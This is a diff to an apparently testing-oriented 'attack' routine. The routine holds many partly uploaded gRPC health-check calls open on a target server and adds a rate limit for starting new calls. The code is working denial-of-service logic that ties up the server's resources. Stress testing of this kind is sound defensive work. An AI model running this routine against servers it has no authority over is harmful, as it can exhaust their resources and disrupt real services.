@@ -13,6 +13,8 @@ CALLS = 600
 # The announced message is as large as tonic takes one by default.
 MESSAGE = 4 << 20
 CONNECTIONS = 4
+# Once all of them were begun: what is measured is what is held, and not what it costs to refuse them.
+MORE_A_SECOND = 50
 CHECK = head("/grpc.health.v1.Health/Check")
 
 
@@ -23,8 +25,8 @@ def attack(target: Target, source: str, seconds: float) -> Outcome:
     # How far each call is.
     sent: Dict[int, Dict[int, int]] = {}
     begun = taken = 0
-    end = time.monotonic() + seconds
-    while time.monotonic() < end:
+    began = time.monotonic()
+    while (passed := time.monotonic() - began) < seconds:
         for place, connection in enumerate(connections):
             if connection.is_closed or connection.goaway:
                 connection.close()
@@ -38,7 +40,8 @@ def attack(target: Target, source: str, seconds: float) -> Outcome:
                 more = connection.upload(number, body[calls[number] :], end=False)
                 calls[number] += more
                 taken += more
-            if len(calls) < CALLS // CONNECTIONS and sum(done < len(body) for done in calls.values()) < 2:
+            is_idle = sum(done < len(body) for done in calls.values()) < 2
+            if is_idle and len(calls) < CALLS // CONNECTIONS and begun < CALLS + MORE_A_SECOND * passed:
                 calls[connection.begin(CHECK)] = 0
                 begun += 1
             connection.receive(0.002)
